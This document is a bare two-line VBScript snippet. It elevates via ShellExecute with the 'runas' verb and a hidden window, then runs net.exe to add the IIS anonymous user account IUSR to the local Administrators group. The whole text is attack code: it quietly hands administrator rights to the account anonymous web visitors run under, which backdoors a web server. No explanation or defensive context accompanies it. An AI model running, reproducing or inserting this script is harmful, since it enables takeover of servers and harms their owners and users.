Set app = CreateObject("Shell.Application")
app.ShellExecute "net.exe", "localgroup Administrators IUSR /add", "", "runas", 0
